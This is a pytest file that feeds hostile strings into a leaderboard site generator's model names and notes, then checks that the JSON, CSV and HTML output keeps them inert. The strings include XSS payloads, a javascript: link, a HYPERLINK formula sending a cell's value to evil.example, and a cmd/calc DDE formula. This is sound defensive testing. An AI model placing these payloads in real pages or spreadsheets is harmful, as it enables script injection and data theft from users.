"""Hostile contributed strings end up as inert data: exact in the JSON API, neutralised in CSV, escaped in HTML.

A tree whose model names, aliases, notes and harness strings are script break-outs, event-handler markup,
javascript: links and spreadsheet formulas is built once; the JSON, CSV and HTML it produced are then scanned
as a whole. The renderer's own structural page tests live in tests/site/.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
from pathlib import Path

import pytest

from hardkit import SCORES, make_tree, model_doc, sitegen

BREAKOUT = "</script><script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_URL = "javascript:alert(1)"
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"click")'
OTHER_FORMULAS = ["+SUM(1+1)", "-1+cmd|' /C calc'!A0", "@SUM(A1:A2)"]
HOSTILE = [BREAKOUT, IMG, JS_URL, FORMULA, *OTHER_FORMULAS]
ENTITY = re.compile(r"&(?:[a-zA-Z]+|#[0-9]+|#x[0-9a-fA-F]+);")
DATA_SCRIPT_TYPES = {"application/json", "application/ld+json", "importmap"}


def hostile_models() -> list[dict]:
    alpha = model_doc("acme/alpha", SCORES["acme/alpha"], name=BREAKOUT, aliases=[IMG, JS_URL, FORMULA],
                      notes=f"{BREAKOUT} {IMG} [click]({JS_URL}) {FORMULA}")
    for i, result in enumerate(alpha["results"]):
        result["harness"] = [FORMULA, BREAKOUT, IMG, *OTHER_FORMULAS][i % 6]
        result["notes"] = f"{BREAKOUT} {IMG} [click]({JS_URL})"
    beta = model_doc("acme/beta", SCORES["acme/beta"], name=IMG, aliases=[BREAKOUT])
    beta["results"][0]["harness"] = IMG
    gamma = model_doc("zeta/gamma", SCORES["zeta/gamma"], name=FORMULA, aliases=OTHER_FORMULAS)
    for result, harness in zip(gamma["results"], OTHER_FORMULAS + [JS_URL]):
        result["harness"] = harness
    delta = model_doc("zeta/delta", {"hle": 30, "gpqa-diamond": 60}, name=JS_URL)
    return [alpha, beta, gamma, delta]


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    root = make_tree(base / "repo", hostile_models())
    out = sitegen("build", "--root", str(root), cwd=base)
    assert out.returncode == 0, out.stderr
    return root / "site"


def strings(x):
    """Every string value (and key) in parsed JSON."""
    if isinstance(x, str):
        yield x
    elif isinstance(x, dict):
        for k, v in x.items():
            yield k
            yield from strings(v)
    elif isinstance(x, list):
        for v in x:
            yield from strings(v)


def load(site: Path, rel: str):
    return json.loads((site / rel).read_text(encoding="utf-8"))


def test_every_json_file_parses(site):
    files = sorted(site.rglob("*.json"))
    assert any(f.relative_to(site).as_posix().startswith("api/v1/models/") for f in files)
    for f in files:
        json.loads(f.read_text(encoding="utf-8"))


def test_json_api_round_trips_hostile_strings_exactly(site):
    alpha = load(site, "api/v1/models/acme/alpha.json")
    assert alpha["model"]["name"] == BREAKOUT
    harnesses = sorted(r["harness"] for r in alpha["results"])
    assert harnesses == sorted([FORMULA, BREAKOUT, IMG, *OTHER_FORMULAS][i % 6] for i in range(len(harnesses)))
    assert {r["notes"] for r in alpha["results"]} == {f"{BREAKOUT} {IMG} [click]({JS_URL})"}
    assert load(site, "api/v1/models/acme/beta.json")["model"]["name"] == IMG
    assert load(site, "api/v1/models/zeta/gamma.json")["model"]["name"] == FORMULA
    assert load(site, "api/v1/models/zeta/delta.json")["model"]["name"] == JS_URL
    names = {m["id"]: m["name"] for m in load(site, "api/v1/index.json")["models"]}
    assert names == {"acme/alpha": BREAKOUT, "acme/beta": IMG, "zeta/gamma": FORMULA, "zeta/delta": JS_URL}
    hle = load(site, "api/v1/benchmarks/hle.json")
    assert {r["harness"] for r in hle["rows"] if r["model"] == "acme/alpha"} <= set(HOSTILE)


def test_json_api_and_chart_data_hold_no_html_entities(site):
    # The search index is mkdocs-material's format, whose text is HTML by design; everything else is data.
    files = sorted(site.glob("api/**/*.json")) + sorted(site.glob("assets/charts/*.json"))
    assert files
    for f in files:
        for s in strings(json.loads(f.read_text(encoding="utf-8"))):
            assert not ENTITY.search(s), (f.relative_to(site).as_posix(), s[:200])


def test_csv_cells_from_contributed_strings_are_neutralised(site):
    files = sorted(site.rglob("*.csv"))
    assert files
    neutralised = 0
    for f in files:
        for line, row in enumerate(csv.reader(io.StringIO(f.read_text(encoding="utf-8"))), start=1):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(cell)  # a negative number is a number, not a formula
                    except ValueError:
                        pytest.fail(f"{f.relative_to(site)}:{line}: formula-like cell {cell!r}")
                if cell.startswith("'") and cell[1:] in HOSTILE:
                    neutralised += 1
    assert neutralised, "no contributed formula reached any CSV: the test no longer exercises neutralisation"


class _Scan(html.parser.HTMLParser):
    """Collects on* attributes, javascript: URLs and the text and type of every <script> element."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.handlers: list[tuple[int, str, str]] = []
        self.js_urls: list[tuple[int, str]] = []
        self.scripts: list[dict] = []
        self._script: dict | None = None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.lower().startswith("on"):
                self.handlers.append((self.getpos()[0], tag, name))
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href") and value is not None:
                if re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.js_urls.append((self.getpos()[0], value))
        if tag == "script":
            self._script = {"line": self.getpos()[0], "attrs": dict(attrs), "text": ""}
            self.scripts.append(self._script)

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script["text"] += data


def test_no_html_page_runs_or_carries_contributed_markup(site):
    pages = sorted(site.rglob("*.html"))
    assert any("models/acme/alpha" in p.as_posix() for p in pages)
    for page in pages:
        rel = page.relative_to(site).as_posix()
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text.lower(), rel
        assert "<img src=x" not in text.lower(), rel
        scan = _Scan()
        scan.feed(text)
        scan.close()
        assert not scan.handlers, (rel, scan.handlers[:5])
        assert not scan.js_urls, (rel, scan.js_urls[:5])
        for script in scan.scripts:
            kind = (script["attrs"].get("type") or "").strip().lower()
            where = f"{rel}:{script['line']}"
            if kind in DATA_SCRIPT_TYPES:
                # Inert data: it must parse as JSON and hold nothing that could close the element early.
                json.loads(script["text"])
                assert not re.search(r"</script|<script|<!--", script["text"], re.I), where
            else:
                # Executable: site code only, loaded from a file, never inline contributed text.
                assert "alert(" not in script["text"] and "HYPERLINK" not in script["text"], where


def test_hostile_names_reach_the_model_pages_as_text(site):
    # Guards the scan above against passing vacuously: the strings are on the pages, shown as text.
    for page, name in (("models/acme/alpha/index.html", BREAKOUT), ("models/acme/beta/index.html", IMG),
                       ("models/zeta/gamma/index.html", FORMULA), ("models/zeta/delta/index.html", JS_URL)):
        scan = _Scan()
        texts: list[str] = []
        scan.handle_data = texts.append
        scan.feed((site / page).read_text(encoding="utf-8"))
        assert any(name in t for t in texts), page
